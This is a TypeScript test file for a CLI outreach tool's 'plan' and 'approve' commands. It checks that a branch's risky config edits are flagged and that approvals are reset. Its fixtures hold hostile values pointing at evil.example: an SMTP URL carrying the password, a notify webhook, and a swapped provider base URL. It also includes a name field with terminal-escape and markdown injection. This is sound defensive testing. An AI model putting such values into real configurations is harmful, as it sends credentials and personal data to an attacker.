import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { makeFolder, runSeq } from "../cli/run-seq.ts";
import { makeWorkspace, PEOPLE } from "../cli/workspace.ts";

const NOW = ["--now", "2026-03-02T09:00[Asia/Seoul]"];
const ANNA = {
  GIT_CONFIG_GLOBAL: "/dev/null",
  GIT_CONFIG_SYSTEM: "/dev/null",
  GIT_AUTHOR_NAME: "Anna Kim",
  GIT_AUTHOR_EMAIL: "anna@acme.example",
  GIT_COMMITTER_NAME: "Anna Kim",
  GIT_COMMITTER_EMAIL: "anna@acme.example",
};

/** What a stranger's branch may write into seq.yaml, what it is about, and how the plan must say it. */
const GRAVE: readonly [name: string, from: string, to: string, setting: string, decides: string][] = [
  [
    "another server with the known password",
    "smtp: outbox",
    'smtp: "smtps://anna:${SMTP_PASSWORD}@evil.example"',
    "senders.anna.smtp",
    "the log-in",
  ],
  [
    "another address",
    "email: anna@acme.example",
    "email: anna@acme-sales.example",
    "senders.anna.email",
    "in whose name",
  ],
  [
    "a sender of its own",
    "compliance:",
    "  eve: { name: Eve, email: eve@evil.example }\ncompliance:",
    "senders.eve.email",
    "in whose name",
  ],
  ["another database", "workspace:", "store: .seq/other.db\nworkspace:", "store", "who said no"],
  ["no rehearsal", "rehearsal: true", "rehearsal: false", "rehearsal", "leave at all"],
  ["no law", "compliance: {", "compliance: { jurisdictions: off,", "compliance.jurisdictions", "the law"],
  [
    "a law overridden",
    "compliance: {",
    "compliance: { overrides: { KR: { email: allow, reason: x } },",
    "compliance.overrides.KR.email",
    "the law",
  ],
  [
    "a private address",
    "fields:",
    "http: { hosts: [a.example], private: [a.example] }\nfields:",
    "http.private",
    "people's data",
  ],
  [
    "somebody who is told",
    "fields:",
    "notify: [{ on: [replied], url: https://evil.example/n }]\nfields:",
    "notify.1.url",
    "told about people",
  ],
  [
    "a recipe in a shipped one's place",
    "fields:",
    "providers: { hunter: { recipe: own } }\nfields:",
    "providers.hunter.recipe",
    "people's data",
  ],
  [
    "a page for everybody",
    "fields:",
    'web: { public_url: "https://evil.example" }\nfields:',
    "web.public_url",
    "pages and hooks",
  ],
  [
    "a key whose name looks like another's",
    "anna:",
    '"anna.smtp": { name: E, email: e@evil.example }\n  anna:',
    "senders.anna.smtp.email",
    "in whose name",
  ],
];

function commit(cwd: string): void {
  const git = (...args: string[]) =>
    execFileSync("git", ["-C", cwd, ...args], { env: { ...process.env, ...ANNA, HOME: makeFolder() } });
  git("init", "-q");
  git("add", "-A");
  git("commit", "-qm", "base");
}

function edit(cwd: string, from: string, to: string): void {
  const file = join(cwd, "seq.yaml");
  const text = readFileSync(file, "utf8");
  expect(text).toContain(from);
  writeFileSync(
    file,
    text.replace(from, () => to),
  );
}

describe("a plan says what of seq.yaml nobody should merge unseen, and ends with 1", () => {
  test.each(GRAVE)("%s", async (_name, from, to, setting, decides) => {
    const cwd = makeWorkspace({
      config: (text) =>
        text.replace("rehearsal: true\n", _name === "no rehearsal" ? "rehearsal: true\n" : ""),
    });
    commit(cwd);
    edit(cwd, from, to);
    const text = await runSeq(["plan"], { cwd, env: ANNA });
    expect([text.code, text.err]).toEqual([1, ""]);
    expect(text.out).toMatch(new RegExp(`! ${setting.replaceAll(".", "\\.")}: .* → .*\\n.*${decides}`));
    const comment = await runSeq(["plan", "--format", "markdown"], { cwd, env: ANNA });
    expect(comment.out).toMatch(/grave settings? changes?/);
    const { settings } = JSON.parse((await runSeq(["plan", "--json"], { cwd, env: ANNA })).out) as {
      settings: { setting: string; decides: string | null }[];
    };
    expect(settings.find((each) => each.setting === setting)?.decides).toContain(decides);
  });

  test("and what a branch adds beside it hides none of it", async () => {
    const cwd = makeWorkspace();
    commit(cwd);
    const many = Array.from(
      { length: 900 },
      (_, nth) => `  s${nth}: { name: "${"x".repeat(900)}", email: s${nth}@acme.example }`,
    );
    edit(cwd, "compliance:", `${many.join("\n")}\ncompliance:`);
    edit(cwd, "email: anna@acme.example", "email: anna@evil.example");
    const { out } = await runSeq(["plan", "--format", "markdown"], { cwd, env: ANNA });
    expect(out.length).toBeLessThan(65_536);
    expect(out).toContain("anna&#64;acme.example → anna&#64;evil.example");
  });

  test("while pace and words of the workspace are told and need nobody", async () => {
    const cwd = makeWorkspace();
    commit(cwd);
    edit(cwd, "per_day: 40", "per_day: 30");
    const { code, out } = await runSeq(["plan"], { cwd, env: ANNA });
    expect(code).toBe(0);
    expect(out).toContain("~ senders.anna.limits.per_day: 40 → 30  line 9");
  });

  test("and where a recipe of the branch's own leads a log-in, and what starts a sequence or watches people", async () => {
    const recipe = (base: string) => `provider: finder
title: Finder
docs: https://finder.example/docs
base: ${base}
settings: { key: { secret: true } }
auth: { header: { name: X-Key, value: "{{ settings.key }}" } }
check: { get: /me, ok: status == 200 }
actions:
  find_email:
    inputs: {}
    request: { post: /find, json: { first: "{{ first_name }}" } }
    repeat: read
    answer:
      - { when: status == 200, is: performed }
`;
    const cwd = makeWorkspace({
      config: (text) =>
        `${text}web: { public_url: "http://127.0.0.1:9" }\nhttp: { hosts: [a.example, b.example] }\nproviders: { finder: { key: "\${KEY}" } }\n`,
    });
    mkdirSync(join(cwd, "providers"));
    writeFileSync(join(cwd, "providers/finder.yaml"), recipe("https://api.finder.example"));
    commit(cwd);
    writeFileSync(join(cwd, "providers/finder.yaml"), recipe("https://evil.example"));
    writeFileSync(join(cwd, "providers/other.yaml"), recipe("https://other.example"));
    const file = join(cwd, "sequences/intro.yaml");
    const text = readFileSync(file, "utf8").replace(
      "steps:\n",
      'start: { on: form_submitted, where: "true" }\ntracking: { opens: true, clicks: true }\nholdout: 10%\nsteps:\n  - { id: tell, do: http, post: "https://b.example/x", json: { who: "{{ email }}" } }\n',
    );
    writeFileSync(file, text);
    const { code, out } = await runSeq(["plan"], { cwd, env: ANNA });
    expect(code).toBe(1);
    expect(out).toContain("! providers/finder.yaml base: https://api.finder.example → https://evil.example");
    expect(out).toContain("! providers/other.yaml: none → https://other.example");
    expect(out).toContain("start: by hand → on form_submitted where true");
    expect(out).toContain("tracking: none → opens, clicks");
    expect(out).toContain("holdout: none → 10 %");
    expect(out).toContain("+ added tell: http to https://b.example");
  });

  test("and no value makes a line of its own, in a terminal or in a comment", async () => {
    const cwd = makeWorkspace();
    commit(cwd);
    edit(cwd, "name: Anna Kim", 'name: "Anna\\n\\n@octocat <b>0 changes</b>\\e[2J"');
    const { out } = await runSeq(["plan"], { cwd, env: ANNA });
    expect(out).not.toContain("\u001b[2J");
    expect(out).not.toMatch(/^@octocat/m);
    const comment = await runSeq(["plan", "--format", "markdown"], { cwd, env: ANNA });
    expect(comment.out).not.toMatch(/@octocat|<b>/);
  });
});

describe("an approval is of the version as seq.yaml stood", () => {
  const config = (text: string) => `approval: required\n${text}`;

  test.each(GRAVE.filter(([name]) => name === "another address" || name === "no law"))(
    "%s needs a new one, and nothing leaves until then",
    async (_name, from, to) => {
      const cwd = makeWorkspace({ config });
      writeFileSync(join(cwd, "people.csv"), PEOPLE);
      const seq = (...argv: string[]) => runSeq(argv, { cwd, env: ANNA });
      await seq("approve");
      await seq("import", "people.csv");
      await seq("enroll", "intro", "--all", ...NOW);
      edit(cwd, from, to);
      const run = await seq("run", ...NOW, "--json");
      expect(run.out).not.toContain('"outcome":"sent"');
      expect((await seq("why", "maya@brightpath.example", ...NOW)).out).toContain("when intro was approved");
      const list = await seq("approve", "--list");
      expect([list.code, list.out]).toEqual([1, expect.stringContaining("changed")]);
      expect((await seq("approve")).code).toBe(0);
      expect((await seq("run", ...NOW, "--json")).out).toContain('"outcome":"sent"');
    },
  );

  test("another pace or order of the keys needs none, nor does an approval of before this was kept", async () => {
    const cwd = makeWorkspace({ config });
    const seq = (...argv: string[]) => runSeq(argv, { cwd, env: ANNA });
    await seq("approve");
    edit(cwd, "per_day: 40", "per_day: 30");
    edit(
      cwd,
      "    email: anna@acme.example\n    smtp: outbox\n",
      "    smtp: outbox\n    email: anna@acme.example\n",
    );
    expect((await seq("approve", "--list")).code).toBe(0);
    const file = join(cwd, "approvals.yaml");
    writeFileSync(file, readFileSync(file, "utf8").replace(/^ +settings: .*\n/m, ""));
    edit(cwd, "email: anna@acme.example", "email: anna@acme-sales.example");
    expect((await seq("approve", "--list")).code).toBe(0);
  });
});
